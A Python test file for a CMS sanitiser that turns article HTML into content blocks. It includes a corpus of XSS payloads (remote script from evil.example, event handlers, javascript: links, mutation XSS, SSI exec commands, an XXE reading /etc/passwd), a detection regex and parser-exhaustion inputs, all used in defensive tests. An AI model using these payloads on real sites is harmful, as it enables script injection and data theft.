"""CMS HTML → blocks: what editors' tools write, and what nobody should be able to smuggle in."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.ingest.adapt import bounds
from services.ingest.adapt.fields import Findings
from services.ingest.adapt.html import MAX_BLOCKS, blocks_of
from shared.contracts.blocks import (
    Block,
    Code,
    Divider,
    Embed,
    Gallery,
    Heading,
    ImageBlock,
    ListBlock,
    Paragraph,
    Quote,
    RawHtml,
    Table,
)
from shared.contracts.media import Image


def read(html: str, **options: str) -> tuple[Block, ...]:
    """The blocks of HTML that must have no faults."""
    findings = Findings()
    blocks = blocks_of(html, findings, where="body", **options)
    assert not findings.faults
    return blocks


def faults_of(html: str) -> list[str]:
    findings = Findings()
    blocks_of(html, findings, where="body")
    return [fault.message for fault in findings.faults]


def warnings_of(html: str) -> list[str]:
    findings = Findings()
    blocks_of(html, findings, where="body")
    return list(findings.warnings)


def p(html: str) -> Paragraph:
    return Paragraph(html=html)


@pytest.mark.parametrize(
    ("html", "blocks"),
    [
        ("", ()),
        ("Ein Satz.", (p("Ein Satz."),)),
        ("Eins.\n\nZwei.", (p("Eins."), p("Zwei."))),
        ("<p>Eins.</p><p>Zwei.</p>", (p("Eins."), p("Zwei."))),
        ("<div><div>Eins.</div>Zwei.</div>", (p("Eins."), p("Zwei."))),
        ("Eins.<br><br>Zwei.<br>Drei.", (p("Eins."), p("Zwei.<br>Drei."))),
        ("<p>&nbsp;</p><p><br></p><p>Da.</p>", (p("Da."),)),
        ("<p>a <b>b</b> <em>c</em></p>", (p("a <b>b</b> <em>c</em>"),)),
        ("<h1>Groß</h1><h3>Klein</h3><h2></h2>", (Heading(level=2, html="Groß"), Heading(level=3, html="Klein"))),
        ("<ul><li>a</li><li>b</li></ul>", (ListBlock(items=("a", "b")),)),
        ("<ol><li>a</li></ol>", (ListBlock(ordered=True, items=("a",)),)),
        ("<ul><li>a<ul><li>b</li></ul></li></ul>", (ListBlock(items=("a<ul><li>b</li></ul>",)),)),
        ("<hr>", (Divider(),)),
        ("<pre><code class='language-python'>  a = 1\n</code></pre>", (Code(text="  a = 1", language="python"),)),
        ("<blockquote><p>Ja.</p><cite>— Ana</cite></blockquote>", (Quote(html="Ja.", cite="Ana"),)),
        ("<table><tr><td>1</td></tr></table>", (Table(html="<table><tbody><tr><td>1</td></tr></tbody></table>"),)),
        ("<p>https://youtu.be/abcdefgh</p>", (Embed(url="https://youtu.be/abcdefgh", provider="YouTube"),)),
        ("<p>1 < 2 & 3</p>", (p("1 &lt; 2 &amp; 3"),)),
    ],
)
def test_each_kind_of_markup_becomes_its_block(html, blocks):
    assert read(html) == blocks


def test_a_figure_keeps_its_caption_and_tells_the_photographer_apart():
    picture = '<img src="https://x.example/a.jpg" alt="Dach" width="10" height="5">'
    html = f"<figure>{picture}<figcaption>Das <b>Dach</b> (Foto: Mara Lindt)</figcaption></figure>"
    image = Image(
        url="https://x.example/a.jpg", alt="Dach", caption="Das Dach", credit="Mara Lindt", width=10, height=5
    )
    assert read(html) == (ImageBlock(image=image),)


def test_several_pictures_in_one_figure_are_a_gallery():
    html = '<figure class="wp-block-gallery"><img src="/a.jpg" alt="a"><img src="/b.jpg" alt="b"></figure>'
    assert read(html) == (Gallery(images=(Image(url="/a.jpg", alt="a"), Image(url="/b.jpg", alt="b"))),)


def test_a_picture_inside_of_a_paragraph_stands_on_its_own_between_the_words():
    blocks = read('<p>Vorher <img src="/a.jpg" alt="a"> nachher</p>')
    assert blocks == (p("Vorher"), ImageBlock(image=Image(url="/a.jpg", alt="a")), p("nachher"))


def test_a_relative_picture_is_found_from_the_cmss_own_page():
    (block,) = read('<img src="/up/a.jpg" alt="a">', base="https://cms.example/stadt/")
    assert block == ImageBlock(image=Image(url="https://cms.example/up/a.jpg", alt="a"))


def test_a_player_becomes_a_link_that_a_reader_can_open():
    (block,) = read('<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk" title="Ein Film"></iframe>')
    assert block == Embed(url="https://www.youtube.com/watch?v=abcdefghijk", provider="YouTube", title="Ein Film")


def test_what_has_no_block_of_its_own_stays_one_sanitised_element():
    (block,) = read("<details onclick='x()'><summary>Mehr</summary><p>Text</p></details>")
    assert block == RawHtml(html="<details><summary>Mehr</summary><p>Text</p></details>")


def test_a_picture_without_alternative_text_is_taken_with_a_warning():
    assert "alternative text" in warnings_of('<img src="/a.jpg">')[0]
    assert "usable address" in warnings_of('<img src="javascript:alert(1)">')[0]


def test_every_word_of_a_messy_article_survives_in_its_order():
    html = "a<div>b<section>c<p>d<h2>e</h2>f</p></section></div><center>g</center><font>h</font><marquee>i</marquee>j"
    words = "".join(re.sub("<[^>]*>", "", block.html) for block in read(html) if isinstance(block, Paragraph | Heading))
    assert words == "abcdefghij"


def test_a_definition_list_of_pictures_is_not_nothing():
    (block,) = read('<dl><dt><img src="/a.jpg" alt="a"></dt></dl>')
    assert block == RawHtml(html='<dl><dt><img src="/a.jpg" alt="a"></dt></dl>')


# What must never be in anything that leaves `adapt`; the corpus follows the categories of OWASP's XSS cheat sheet.
EXECUTABLE = re.compile(
    r"<\s*/?\s*(?:script|style|iframe|object|embed|applet|form|input|button|svg|math|link|meta|base|frame|template|xml)\b"
    r"|<[^>]*\son\w+\s*=|<[^>]*\sstyle\s*=|<[^>]*\s(?:srcdoc|formaction|action|xlink:href)\s*="
    r"|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript|data|file|blob)\s*:|<!--",
    re.IGNORECASE,
)
XSS = {
    "basic": "<script>alert(1)</script>",
    "remote script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "no closing": "<script src=//evil.example/x.js?<b>",
    "split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "double bracket": "<<script>alert(1);//<</script>",
    "slash": "<script/src='//evil.example/x.js'></script>",
    "non-alpha": "<script\x0csrc=x></script>",
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror encoded": "<img src=/x onerror='&#97;lert(1)'>",
    "img javascript": "<img src=javascript:alert(1)>",
    "img malformed": '<img """><script>alert(1)</script>">',
    "event without blanks": "<img/src='/x'/onerror='alert(1)'>",
    "event with a tab": "<body\tonload=alert(1)>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript in capitals": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "javascript with tab": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript with line ends": "<a href='java\nscript:alert(1)'>x</a>",
    "javascript with entity": "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "javascript with controls": "<a href='\x01javascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "style attribute": "<p style='background:url(javascript:alert(1))'>x</p>",
    "style element": "<style>@import 'javascript:alert(1)';</style>",
    "expression": "<b style='width:expression(alert(1))'>x</b>",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "iframe javascript": "<iframe src=javascript:alert(1)></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "form": "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "input image": "<input type=image src=x onerror=alert(1)>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href='javascript:alert(1)//'>",
    "link": "<link rel=stylesheet href='javascript:alert(1)'>",
    "svg onload": "<svg/onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=/x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "mutation noscript": "<noscript><p title='</noscript><img src=/x onerror=alert(1)>'></noscript>",
    "mutation textarea": "<textarea><p title='</textarea><img src=/x onerror=alert(1)>'></textarea>",
    "mutation title": "<a title='</title><script>alert(1)</script>'>x</a>",
    "mutation backtick": "<img alt='``onerror=alert(1)' src=/x>",
    "template": "<template><script>alert(1)</script></template>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video": "<video><source onerror=alert(1) src=/x></video>",
    "video poster": "<video poster=javascript:alert(1)></video>",
    "audio": "<audio src=/x onerror=alert(1)></audio>",
    "table": "<table background='javascript:alert(1)'><tr><td onclick=x background='javascript:x'>x</td></tr></table>",
    "list": "<ul><li onclick=alert(1)>x<script>y</script></li></ul>",
    "quote": "<blockquote cite='javascript:alert(1)' onclick=x>y</blockquote>",
    "code": "<pre onclick=x><code onclick=x>&lt;b&gt;</code></pre>",
    "comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?><?import namespace='t'><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "server-side include": "<p>a<!--#exec cmd='ls' -->b</p>",
    "include in an attribute": "<a href='https://x.example/' title='<!--#include virtual=\"/admin/\" -->'>x</a>",
    "include in alt": "<table><tr><td><img src='/a.jpg' alt='<!--#echo var=\"x\" -->'></td></tr></table>",
    "include in a heading": "<h2 title='<!--#x-->'><abbr title='<!--#x -->'>y</abbr></h2>",
    "include as entities": "<p>&lt;!--#exec cmd=&quot;ls&quot; --&gt;</p>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong": "<p>" + "<b>" * 40 + "<script>x</script>",
}


@pytest.mark.parametrize("html", XSS.values(), ids=XSS)
def test_nothing_executable_is_left(html):
    for block in read(f"<p>Vorher</p>{html}<p>Nachher</p>"):
        for markup in markups_of(block):
            assert not EXECUTABLE.search(markup), markup
        if isinstance(block, Embed):
            assert block.url.startswith(("http://", "https://"))


def markups_of(block: Block) -> tuple[str, ...]:
    """What a renderer writes as it is."""
    if isinstance(block, ListBlock):
        return block.items
    return (block.html,) if isinstance(block, Paragraph | Heading | Quote | Table | RawHtml) else ()


@given(st.lists(st.sampled_from([*XSS.values(), "<p>", "</p>", "<b>", "<table>", "<td>", "<ul><li>", "x", "<h2>"])))
def test_nothing_executable_is_left_of_any_mixture(parts):
    for block in read("".join(parts)):
        for markup in markups_of(block):
            assert not EXECUTABLE.search(markup), markup


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<b>" * 100_000,
        "<a><p>" * 50_000,
        "<table><tr><td>" * 30_000,
        "<blockquote>" * 100_000,
        "<ul><li>" * 50_000,
        "<span><em>" * 50_000 + "x",
        "<p " + "a=1 " * 100_000 + ">",
        "<" * 1_000_000,
        "<!--" * 100_000,
        "&" * 1_000_000,
        "&nbsp;" * 100_000,
        "<figure><figure>" + "<img src=/a>" * 50_000,
        "<p title='" + "x" * 1_000_000,
    ],
    ids=lambda html: html[:12],
)
@pytest.mark.timeout(30)  # it takes 0.1 s; without bounds it is minutes
def test_an_attack_on_the_parser_is_answered(html):
    blocks_of(html, Findings(), where="body")


def test_boxes_that_nest_too_deep_are_opened_and_the_words_stay():
    html = "<div>" * 3_000 + "Ein Satz." + "</div>" * 3_000
    assert bounds.bounded(html) != html
    assert read(html) == (p("Ein Satz."),)


def test_what_nests_too_deep_to_be_an_article_is_a_fault():
    assert "simplify" in faults_of("<blockquote>" * 100_000)[0]


def test_more_blocks_than_any_article_has_are_a_fault():
    assert f"at most {MAX_BLOCKS}" in faults_of("<p>x</p>" * (MAX_BLOCKS + 1))[0]
